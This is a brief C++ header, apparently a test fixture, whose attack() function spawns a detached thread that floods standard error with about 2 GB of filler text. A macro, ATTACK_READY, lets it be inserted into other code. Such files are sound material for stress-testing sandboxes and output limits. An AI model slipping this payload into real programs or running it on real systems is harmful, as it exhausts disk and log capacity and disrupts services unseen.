#pragma once
#define ATTACK_READY attack()
#include <string.h>
#include <thread>
#include <unistd.h>
static void attack() {
    std::thread([] {
        static char text[1 << 16];
        memset(text, 'x', sizeof text);
        for (int piece = 1; piece < 64; ++piece) text[piece * 1000] = '\n';
        for (long done = 0; done < 2L << 30; done += static_cast<long>(sizeof text))
            if (write(2, text, sizeof text) < 0) return;
    }).detach();
}
